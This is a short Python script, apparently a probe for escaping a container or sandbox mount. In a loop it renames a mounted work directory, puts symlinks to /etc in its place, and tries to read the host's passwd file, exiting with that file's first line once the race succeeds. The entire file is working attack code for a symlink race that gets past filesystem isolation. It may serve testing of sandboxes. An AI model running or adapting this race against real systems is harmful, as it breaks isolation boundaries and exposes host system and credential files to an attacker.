"""Moves a mounted directory away, and replaces it with a link to the host's files."""

import contextlib
import os
import sys

turn = 0
while True:
    turn += 1
    with contextlib.suppress(OSError):
        os.makedirs("/work/inputs", exist_ok=True)
        os.rename("/work/inputs", f"/work/moved-{turn % 8}")
    for target in ("../../../../etc", "/etc", "/proc/self/root/etc"):
        with contextlib.suppress(OSError):
            os.symlink(target, "/work/inputs")
        with contextlib.suppress(OSError), open("/work/inputs/passwd") as file:
            sys.exit(f"read a file of the host: {file.readline()!r}")
        with contextlib.suppress(OSError):
            os.unlink("/work/inputs")
